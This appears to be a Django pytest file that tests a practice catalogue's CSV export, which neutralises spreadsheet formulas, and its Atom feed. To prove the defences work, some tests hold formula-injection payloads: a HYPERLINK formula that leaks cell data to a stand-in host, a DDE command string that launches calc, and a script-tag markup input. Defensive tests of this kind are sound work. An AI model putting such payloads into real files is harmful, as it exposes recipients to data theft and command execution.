"""The CSV export of the catalogue (spreadsheet-friendly, safe from formula injection) and
the Atom feed of newly published practices."""

import csv
import datetime
import io
import xml.etree.ElementTree as ET

import pytest
from django.utils import timezone

from practices.export import csv_safe
from practices.models import Practice, Theme
from tests.factories import OrganisationFactory, TerritoryFactory

from .factories import PracticeFactory, complete

pytestmark = pytest.mark.django_db

S = Practice.Status
ATOM = "{http://www.w3.org/2005/Atom}"


def export(client, url="/fr/practices/export.csv"):
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    return response, body


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


# ---------------------------------------------------------------- csv_safe


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("https://evil.example","clic")',
            '\'=HYPERLINK("https://evil.example","clic")',
        ),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Barnahus", "Barnahus"),
        ("Prise en charge = soins", "Prise en charge = soins"),
        ("", ""),
        (None, ""),
        (2019, "2019"),
        ("'déjà cité'", "'déjà cité'"),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


# ---------------------------------------------------------------- the export


@pytest.fixture
def practices(db):
    reykjavik = TerritoryFactory(country="IS", name="Reykjavík", slug="reykjavik")
    barnahus = complete(
        PracticeFactory(
            title_fr="Barnahús de Reykjavík",
            title_en="Reykjavík Barnahús",
            summary_fr="Un lieu unique où l'enfant est entendu et soigné.",
            summary_en="One place where the child is heard and cared for.",
            territory=reykjavik,
            evidence="evaluated",
            year_started=1998,
            organisation=OrganisationFactory(name="Barnaverndarstofa"),
            published_at=timezone.now() - datetime.timedelta(days=1),
        ),
        sectors=("police", "child-welfare"),
    )
    barnahus.themes.set(Theme.objects.filter(code="child-friendly-justice"))
    training = complete(
        PracticeFactory(
            title_fr="Formation des enquêteurs à l'audition",
            published_at=timezone.now() - datetime.timedelta(days=2),
        ),
        sectors=("justice", "police"),
    )
    complete(PracticeFactory(status=S.DRAFT, title_fr="Brouillon"), sectors=("police", "ngo"))
    return {"barnahus": barnahus, "training": training}


def test_the_export_is_utf8_with_a_bom_and_keeps_accents(client, practices):
    response, body = export(client)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="lanzarote-practices.csv"'
    assert body.startswith(b"\xef\xbb\xbf")
    assert "Barnahús de Reykjavík".encode() in body
    assert "Formation des enquêteurs à l'audition".encode() in body


def test_the_export_has_one_row_per_published_practice_with_its_details(client, practices):
    _, body = export(client, "/en/practices/export.csv")
    header, *rows = rows_of(body)

    assert header == [
        "Title",
        "Summary",
        "Country",
        "Territory",
        "Sectors involved",
        "Themes",
        "Lead organisation",
        "Kinds of organisations carrying it out",
        "Evidence level",
        "Since",
        "Until",
        "Published",
        "Address",
    ]
    assert len(rows) == 2
    barnahus = dict(zip(header, rows[0], strict=True))
    practice = practices["barnahus"]
    assert barnahus["Title"] == "Reykjavík Barnahús"
    assert barnahus["Summary"] == "One place where the child is heard and cared for."
    assert barnahus["Country"] == "Iceland"
    assert barnahus["Territory"] == "Reykjavík"
    assert barnahus["Sectors involved"].count(",") == 1
    assert barnahus["Themes"] == "Child-friendly hearing and justice"
    assert barnahus["Lead organisation"] == "Barnaverndarstofa"
    assert barnahus["Kinds of organisations carrying it out"] == str(
        practice.lead.get_kind_display()
    )
    assert barnahus["Evidence level"] == "Evaluated"
    assert barnahus["Since"] == "1998"
    assert barnahus["Until"] == ""
    # British short date on the English export ("03/12/2026"), see tests/lanzarote/test_formats.py.
    assert barnahus["Published"] == timezone.localtime(practice.published_at).strftime("%d/%m/%Y")
    assert barnahus["Address"] == f"https://portal.example.org/en/practices/{practice.slug}/"


def test_the_export_applies_the_catalogue_filters(client, practices):
    _, body = export(client, "/fr/practices/export.csv?sector=justice&sector=police")
    assert [row[0] for row in rows_of(body)[1:]] == ["Formation des enquêteurs à l'audition"]

    _, body = export(client, "/fr/practices/export.csv?country=IS")
    assert [row[0] for row in rows_of(body)[1:]] == ["Barnahús de Reykjavík"]

    _, body = export(client, "/fr/practices/export.csv?q=audition")
    assert [row[0] for row in rows_of(body)[1:]] == ["Formation des enquêteurs à l'audition"]

    _, body = export(client, "/fr/practices/export.csv?sort=title")
    assert [row[0] for row in rows_of(body)[1:]] == [
        "Barnahús de Reykjavík",
        "Formation des enquêteurs à l'audition",
    ]


def test_the_export_leaves_out_unpublished_practices(client, practices):
    _, body = export(client)

    assert b"Brouillon" not in body


def test_formulas_are_neutralised_in_every_column(client, db):
    practice = PracticeFactory(
        title_en='=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")',
        summary_en="@SUM(1+1)*cmd|' /C calc'!A0",
        territory=TerritoryFactory(country="FR", name="-2+3", slug="moins"),
    )
    complete(practice, lead=OrganisationFactory(name="+33 1 23 45 67 89"))

    _, body = export(client, "/en/practices/export.csv")
    header, row = rows_of(body)

    cells = dict(zip(header, row, strict=True))
    assert cells["Title"] == '\'=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")'
    assert cells["Summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["Territory"] == "'-2+3"
    assert cells["Lead organisation"] == "'+33 1 23 45 67 89"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_tab_and_carriage_return_at_the_start_are_neutralised(client, db):
    complete(PracticeFactory(title_fr="\t=1+1", summary_fr="\r=2+2"))

    _, body = export(client)
    row = rows_of(body)[1]

    assert row[0] == "'\t=1+1"
    assert row[1] == "'\r=2+2"


def test_the_export_is_empty_but_valid_with_no_practice(client, db):
    _, body = export(client)

    assert len(rows_of(body)) == 1


# ---------------------------------------------------------------- Atom feed


def entries(client, url="/fr/practices/feed/"):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    return ET.fromstring(response.content).findall(f"{ATOM}entry")


def test_the_feed_lists_published_practices_newest_first(client, practices):
    found = entries(client)

    assert [e.find(f"{ATOM}title").text for e in found] == [
        "Barnahús de Reykjavík",
        "Formation des enquêteurs à l'audition",
    ]
    first = found[0]
    slug = practices["barnahus"].slug
    assert first.find(f"{ATOM}link").get("href") == f"http://testserver/fr/practices/{slug}/"
    assert first.find(f"{ATOM}summary").text == "Un lieu unique où l'enfant est entendu et soigné."


def test_the_english_feed_is_in_english(client, practices):
    found = entries(client, "/en/practices/feed/")

    assert found[0].find(f"{ATOM}title").text == "Reykjavík Barnahús"
    slug = practices["barnahus"].slug
    assert found[0].find(f"{ATOM}link").get("href") == f"http://testserver/en/practices/{slug}/"


def test_the_feed_leaves_out_every_unpublished_practice(client, db):
    for status in (S.DRAFT, S.SUBMITTED, S.CHANGES_REQUESTED, S.ARCHIVED):
        PracticeFactory(status=status, title_fr=f"Cachée {status}")

    assert entries(client) == []


def test_the_feed_holds_the_30_newest(client, db):
    now = timezone.now()
    for n in range(35):
        PracticeFactory(title_fr=f"P{n:02d}", published_at=now - datetime.timedelta(hours=n))

    titles = [e.find(f"{ATOM}title").text for e in entries(client)]

    assert titles == [f"P{n:02d}" for n in range(30)]


def test_the_feed_escapes_markup_in_titles(client, db):
    PracticeFactory(title_fr="<script>alert(1)</script> & co")

    response = client.get("/fr/practices/feed/")

    assert b"<script>" not in response.content
    assert entries(client)[0].find(f"{ATOM}title").text == "<script>alert(1)</script> & co"


def test_the_catalogue_links_to_the_feed_and_the_export(client, practices):
    page = client.get("/fr/practices/?country=IS").content.decode()

    assert 'type="application/atom+xml"' in page
    assert 'href="/fr/practices/feed/"' in page
    assert 'href="/fr/practices/export.csv?country=IS"' in page


# ---------------------------------------------------------------- the feed keeps the filters


def test_the_feed_applies_the_catalogue_filters(client, practices):
    titles = [
        e.find(f"{ATOM}title").text for e in entries(client, "/fr/practices/feed/?country=IS")
    ]
    assert titles == ["Barnahús de Reykjavík"]
    found = entries(client, "/fr/practices/feed/?sector=justice&sector=police")
    assert [e.find(f"{ATOM}title").text for e in found] == ["Formation des enquêteurs à l'audition"]
    found = entries(client, "/fr/practices/feed/?q=audition")
    assert [e.find(f"{ATOM}title").text for e in found] == ["Formation des enquêteurs à l'audition"]


def test_the_filtered_feed_stays_newest_first_whatever_the_sort_asked(client, practices):
    found = entries(client, "/fr/practices/feed/?sector=police&sort=title&page=2")
    assert [e.find(f"{ATOM}title").text for e in found] == [
        "Barnahús de Reykjavík",
        "Formation des enquêteurs à l'audition",
    ]


def test_the_filtered_feed_links_to_the_same_catalogue_page(client, practices):
    response = client.get("/en/practices/feed/?country=IS&sort=title")
    root = ET.fromstring(response.content)
    links = {link.get("rel"): link.get("href") for link in root.findall(f"{ATOM}link")}
    assert links["alternate"] == "http://testserver/en/practices/?country=IS"
    assert links["self"] == "http://testserver/en/practices/feed/?country=IS"


@pytest.mark.parametrize("query", ["?sector=nope", "?country=ZZ&territory=x", "?page=-1&q="])
def test_the_feed_takes_unknown_filters_calmly(client, practices, query):
    assert client.get(f"/fr/practices/feed/{query}").status_code == 200


def test_the_catalogue_links_to_the_feed_of_its_filters(client, practices):
    page = client.get("/fr/practices/?country=IS&sector=police&sort=title&page=1").content
    page = page.decode()
    assert 'href="/fr/practices/feed/?country=IS&amp;sector=police"' in page
    assert 'type="application/atom+xml"' in page
    assert "correspondant à ces filtres" in page


def test_the_unfiltered_catalogue_links_to_the_whole_feed(client, practices):
    page = client.get("/fr/practices/").content.decode()
    assert 'href="/fr/practices/feed/"' in page
